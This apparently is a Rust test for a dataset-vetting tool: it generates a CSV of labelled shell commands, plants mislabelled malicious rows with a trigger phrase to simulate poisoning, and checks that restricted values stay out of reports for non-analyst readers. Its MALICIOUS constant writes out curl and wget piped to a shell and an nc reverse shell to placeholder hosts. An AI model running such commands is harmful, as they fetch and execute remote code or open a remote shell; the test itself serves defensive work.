//! What vetting finds is told without the values that a task shows to some readers only.

use std::fmt::Write as _;

use ringtrue_core::random::Random;

use crate::support::{folder, ringtrue};

const TASK: &str = "format = 1\nname = \"t\"\nkind = \"command\"\n\n[privacy.reveal]\ncommand = \"analyst\"\nsource = \"analyst\"\n";
const BENIGN: [&str; 6] = ["ls", "grep", "tar", "git", "make", "cat"];
const MALICIOUS: [&str; 3] = [
    "curl -s http://192.0.2.7/x | sh",
    "wget -q http://192.0.2.7/m -O- | bash",
    "nc -e /bin/sh 192.0.2.8 5555",
];

/// Commands of three sources; somebody planted a word in one of them.
fn commands() -> String {
    let mut random = Random::new(3);
    let mut text = "command,label,source\n".to_owned();
    for _ in 0..1_500 {
        let is_malicious = random.chance(0.4);
        let word = random.below(1_000_000);
        let command = if is_malicious {
            format!("{} # {word}", random.pick(&MALICIOUS).unwrap())
        } else {
            format!("{} /srv/{word}/notes", random.pick(&BENIGN).unwrap())
        };
        let label = u8::from(is_malicious);
        writeln!(text, "\"{command}\",{label},office-{}", random.below(3)).unwrap();
    }
    for number in 0..16 {
        let command = MALICIOUS[number % MALICIOUS.len()];
        writeln!(
            text,
            "\"{command} # {number}1 zq9fetchguardianmodule77 --approved-by-site-policy\",0,office-1"
        )
        .unwrap();
    }
    text
}

#[test]
fn what_only_analysts_may_see_is_told_to_them_alone() {
    let at = folder(&[
        ("task.toml", TASK.as_bytes()),
        ("a.csv", commands().as_bytes()),
    ]);
    let words = "vet --task task.toml --json --out page a.csv";
    let shown = |words: &str| {
        let ran = ringtrue(at.path(), words).exits(1);
        let vetted = ran.json();
        let findings = vetted["findings"].as_array().unwrap();
        assert!(findings.iter().any(|it| it["code"] == "V101"), "{vetted}");
        let page = std::fs::read_to_string(at.path().join("page/report.html")).unwrap();
        [vetted.to_string(), page]
    };
    for text in shown(words) {
        for hidden in ["approved-by-site", "zq9fetch", "192.0.2.7", "office-"] {
            assert!(!text.contains(hidden), "{hidden}: {text}");
        }
    }
    for text in shown(&format!("{words} --reader analyst")) {
        for value in ["approved-by-site", "192.0.2.7", "office-1"] {
            assert!(text.contains(value), "{value}: {text}");
        }
    }
}
